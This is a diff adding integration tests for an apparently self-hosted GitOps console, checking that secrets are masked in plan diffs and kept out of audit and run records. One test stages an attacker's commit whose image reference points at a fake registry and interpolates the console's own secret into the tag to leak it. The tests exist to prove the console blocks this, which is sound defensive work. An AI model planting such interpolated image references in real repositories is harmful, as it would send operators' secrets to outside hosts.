@@ -1,0 +1,107 @@
+"""A commit cannot make the console send its own secrets out, and a stack's secrets stay out of every record.
+
+Real engine, real git repository, the whole GitOps loop (observer, supervisor, queue, manager), and a real HTTP
+server on loopback posing as a registry that records every request the engine sends it.
+"""
+
+from __future__ import annotations
+
+import uuid
+from pathlib import Path
+
+import pytest
+
+from ops.masking import HIDDEN, HIDDEN_CHANGED
+from ops.store.models import AuditEvent, Run
+from tests.helpers.docker_ops import AppTag, docker_client, project_containers, unique, write_stack
+from tests.helpers.fake_registry import fake_registry
+from tests.helpers.gitops import commit, gitops_loop, init_repo
+from tests.helpers.rig import require_engine
+from tests.helpers.waiting import wait_for_async
+
+
+@pytest.fixture
+def stack_name() -> str:
+    require_engine()
+    return unique()
+
+
+async def test_a_commit_cannot_send_the_consoles_secret_to_the_registry_it_names(
+    tmp_path: Path, stack_name: str, app_tag: AppTag, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    secret = f'hl-console-secret-{uuid.uuid4().hex}'
+    monkeypatch.setenv('HOMELAB_SOMETHING_SECRET', secret)  # in the console's own environment
+    await app_tag.push('v1')
+    repo = tmp_path / 'repo'
+    init_repo(repo)
+    # Both services run an image pulled from a registry, so the freshness check asks about what the files name.
+    write_stack(repo, {'app': {'image': app_tag.image}, 'probe': {'image': app_tag.image}})
+    commit(repo, 'two services from the registry')
+    with fake_registry() as registry:
+        async with gitops_loop(tmp_path, stack_name) as loop:
+            await loop.up()
+            await loop.in_line()
+
+            # The attacker's commit: one image names the console's secret, the other a variable of the stack's .env.
+            (repo / '.env').write_text('STACK_TAG=from-dotenv\n')
+            write_stack(
+                repo,
+                {
+                    'app': {'image': f'{registry.address}/leak:${{HOMELAB_SOMETHING_SECRET}}'},
+                    'probe': {'image': f'{registry.address}/leak:${{STACK_TAG}}'},
+                },
+            )
+            commit(repo, 'point the images at another registry')
+
+            # The freshness check of the new files happened: the registry was asked about the probe's tag (so the
+            # stack's own .env still works), and the evaluation that read the new files is over.
+            await wait_for_async(
+                lambda: '/v2/leak/manifests/from-dotenv' in registry.seen(),
+                timeout=60,
+                what='the fake registry to be asked about the tag from the stack .env',
+            )
+
+            def evaluated() -> bool:
+                report = loop.supervisor.reports.get(stack_name)
+                app = report.want.services.get('app') if report is not None else None
+                return app is not None and (app.image or '').startswith(registry.address)
+
+            await wait_for_async(evaluated, timeout=60, what='the evaluation of the new files')
+            assert secret not in registry.seen()
+            app_image = loop.supervisor.reports[stack_name].want.services['app'].image
+            assert app_image is not None and secret not in app_image
+
+
+async def test_a_changed_secret_shows_as_changed_and_its_values_are_stored_nowhere(
+    tmp_path: Path, stack_name: str
+) -> None:
+    old, new = f'hl-old-pass-{uuid.uuid4().hex}', f'hl-new-pass-{uuid.uuid4().hex}'
+    repo = tmp_path / 'repo'
+    init_repo(repo)
+    write_stack(repo, {'app': {'environment': {'DB_PASSWORD': old, 'LEVEL': '1'}}})
+    commit(repo, 'app with a password')
+    async with gitops_loop(tmp_path, stack_name) as loop:
+        await loop.up()
+        await loop.in_line()
+
+        write_stack(repo, {'app': {'environment': {'DB_PASSWORD': new, 'LEVEL': '2'}}})
+        commit(repo, 'rotate the password')
+        action = await loop.pending('config', 'app')
+        diff = action.plan['diff']
+        assert {'setting': 'environment DB_PASSWORD', 'running': HIDDEN, 'wanted': HIDDEN_CHANGED} in diff
+        assert {'setting': 'environment LEVEL', 'running': '1', 'wanted': '2'} in diff
+        done = await loop.approve_and_finish(action)
+        assert done.state == 'done', done.error
+        await loop.in_line()
+
+        # The secret itself reached the container, and no record of the console holds either value.
+        env = docker_client().api.inspect_container(project_containers(stack_name)['app']['id'])['Config']['Env']
+        assert f'DB_PASSWORD={new}' in env
+        records = [str(a.detail) for a in await AuditEvent.all()]
+        records += [f'{r.params} {r.result} {r.output} {r.error}' for r in await Run.all()]
+        for text in records:
+            assert old not in text and new not in text
+    for path in (tmp_path / 'data').rglob('*'):
+        if path.is_file():
+            content = path.read_bytes()
+            assert old.encode() not in content and new.encode() not in content, path
